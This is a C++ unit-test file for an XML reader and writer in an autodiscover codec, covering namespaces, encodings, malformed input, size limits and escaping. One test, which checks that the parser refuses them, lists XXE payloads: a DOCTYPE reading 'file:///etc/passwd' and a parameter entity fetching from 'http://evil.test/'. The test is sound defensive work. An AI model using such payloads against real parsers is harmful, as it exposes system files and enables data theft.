// SPDX-License-Identifier: Apache-2.0

#include "codec/xml.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "base/strings.h"

namespace autodiscover::codec {
namespace {

XmlLimits Limits() { return XmlLimits::From(Policy()); }

Result<XmlDocument> Read(std::string_view bytes) {
  return ReadXml(bytes, Limits());
}

std::string Utf16(std::string_view ascii, bool big_endian, bool mark) {
  std::string bytes;
  const auto put = [&](unsigned char high, unsigned char low) {
    bytes.push_back(static_cast<char>(big_endian ? high : low));
    bytes.push_back(static_cast<char>(big_endian ? low : high));
  };
  if (mark) {
    put(0xFE, 0xFF);
  }
  for (const char c : ascii) {
    put(0, static_cast<unsigned char>(c));
  }
  return bytes;
}

TEST(ReadXml, ResolvesNamespaces) {
  const Result<XmlDocument> document = Read(
      "<p:a xmlns:p='urn:1' xmlns='urn:2'><b p:k='v'/>"
      "<p:b xmlns:p='urn:3'/><q:b/><b xmlns=''/><p:b>x</p:b></p:a>");
  ASSERT_TRUE(document);
  EXPECT_EQ(document->root().name, "a");
  EXPECT_EQ(document->root().name_space, "urn:1");
  ASSERT_EQ(document->root().children.size(), 5U);
  EXPECT_EQ(document->root().children[0].name_space, "urn:2");
  EXPECT_EQ(document->root().children[0].Attribute("k"), "v");
  EXPECT_EQ(document->root().children[1].name_space, "urn:3");
  EXPECT_EQ(document->root().children[2].name_space, "");
  EXPECT_EQ(document->root().children[3].name_space, "");
  EXPECT_EQ(document->root().ChildText("urn:1", "b"), "x");
}

TEST(ReadXml, TakesEveryLawfulShape) {
  const std::string body = "<a> x<!-- c --> y <![CDATA[<z>]]></a>";
  const std::string declared = "<?xml version='1.0' encoding='utf-8'?>" + body;
  for (const std::string& bytes :
       {body, declared, "\xEF\xBB\xBF" + declared, "\r\n " + declared,
        "\xEF\xBB\xBF" + body, "<!-- c -->" + body, declared + "\n",
        Utf16("<?xml version='1.0' encoding='utf-16'?>" + body, true, true),
        Utf16("<?xml version='1.0' encoding='utf-16'?>" + body, false, true),
        Utf16("<?xml version='1.0' encoding='utf-16'?>" + body, false,
              false)}) {
    const Result<XmlDocument> document = Read(bytes);
    ASSERT_TRUE(document) << bytes << ": " << document.error().message;
    EXPECT_EQ(Trim(document->root().text), "x y <z>");
  }
}

TEST(ReadXml, DecodesOnce) {
  EXPECT_EQ(Read("<a>&lt;IsOWA&gt; &amp;lt; &#xF6;</a>")->root().text,
            "<IsOWA> &lt; \xC3\xB6");
}

TEST(ReadXml, JoinsTheTextAroundAChild) {
  const Result<XmlDocument> document =
      Read("<a>one<b>of</b><!-- none --><![CDATA[ & two]]></a>");
  ASSERT_TRUE(document);
  EXPECT_EQ(document->root().text, "one & two");
  ASSERT_EQ(document->root().children.size(), 1U);
  EXPECT_EQ(document->root().children[0].text, "of");
}

TEST(ReadXml, GivesUtf8WhateverComes) {
  EXPECT_EQ(Read("<a>J\xF6rg</a>")->root().text, "J\xEF\xBF\xBDrg");
}

bool IsRefused(std::string_view text) { return !Read(text).has_value(); }

// Fails if a document type gets through, whatever is in it (SEC-01).
TEST(ReadXml, RefusesDocumentTypes) {
  for (const char* dtd :
       {"<!DOCTYPE a>", "<!DOCTYPE a SYSTEM 'file:///etc/passwd'>",
        "<!DOCTYPE a [<!ENTITY b 'c'>]>",
        "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://evil.test/'> %p;]>"}) {
    const bool refused =
        IsRefused(StrCat(dtd, "<a>&b;</a>")) &&
        IsRefused(StrCat("<?xml version='1.0'?>\n", dtd, "<a/>")) &&
        IsRefused(StrCat("<a>", dtd, "</a>")) && IsRefused(StrCat("<a/>", dtd));
    EXPECT_TRUE(refused) << dtd;
  }
}

TEST(ReadXml, RefusesWhatIsBroken) {
  for (const char* text :
       {"", " ", "text", "<a>", "<a", "<a></b>", "<a/><b/>", "<a b=c/>",
        "<a b='1' ", "</a>", "<?xml", "<!--", "<a/>trailing", "leading<a/>"}) {
    EXPECT_FALSE(Read(text)) << text;
  }
  EXPECT_FALSE(Read(std::string_view("<a/>\0<b/>", 9)));
}

std::string Repeated(std::string_view text, int times) {
  std::string repeated;
  for (int i = 0; i < times; ++i) {
    repeated.append(text);
  }
  return repeated;
}

TEST(ReadXml, KeepsItsBounds) {
  EXPECT_TRUE(Read(Repeated("<a>", 64) + Repeated("</a>", 64)));
  EXPECT_FALSE(Read(Repeated("<a>", 65) + Repeated("</a>", 65)));
  EXPECT_TRUE(Read("<a>" + Repeated("<b/>", 19'999) + "</a>"));
  EXPECT_FALSE(Read("<a>" + Repeated("<b/>", 20'000) + "</a>"));
  EXPECT_FALSE(Read("<a>" + Repeated("<b/>", 90'000) + "</a>"));
  EXPECT_FALSE(Read("<a" + Repeated(" b=''", 20'000) + "/>"));
  const XmlLimits small = {.bytes_max = 6, .depth_max = 9, .nodes_max = 9};
  EXPECT_TRUE(ReadXml("<aaa/>", small));
  EXPECT_FALSE(ReadXml("<aaaa/>", small));
}

// Fails if a tree is made of what will be refused anyway, however it ends.
TEST(ReadXml, CountsBeforeItReads) {
  const XmlLimits small = {.bytes_max = 99, .depth_max = 9, .nodes_max = 2};
  EXPECT_EQ(ReadXml(Repeated("<", 12), small).error().message,
            "has too many elements");
  EXPECT_THAT(ReadXml(Repeated("<", 11), small).error().message,
              ::testing::HasSubstr("not well-formed"));
}

// Fails if text is pasted into markup (IN-06).
TEST(XmlWriter, EscapesText) {
  const std::string nasty = "a&b'<x>\"@corp.test]]>";
  XmlWriter writer;
  writer.Open("a");
  writer.Attribute("k", nasty);
  writer.Leaf("b", nasty);
  writer.Leaf("c", "");
  const std::string written = writer.Finish();
  EXPECT_TRUE(written.starts_with("<?xml version=\"1.0\" encoding=\"utf-8\"?>"))
      << written;
  const Result<XmlDocument> document = Read(written);
  ASSERT_TRUE(document);
  EXPECT_EQ(document->root().Attribute("k"), nasty);
  ASSERT_EQ(document->root().children.size(), 2U);
  EXPECT_EQ(document->root().children[0].text, nasty);
  EXPECT_TRUE(document->root().children[0].children.empty());
}

// Found by the fuzzer: an element without a name.
TEST(ReadXml, LeavesNoElementWithoutAName) {
  const Result<XmlDocument> document = Read("<p:/>");
  ASSERT_TRUE(document);
  EXPECT_EQ(document->root().name, "p:");
}

}  // namespace
}  // namespace autodiscover::codec
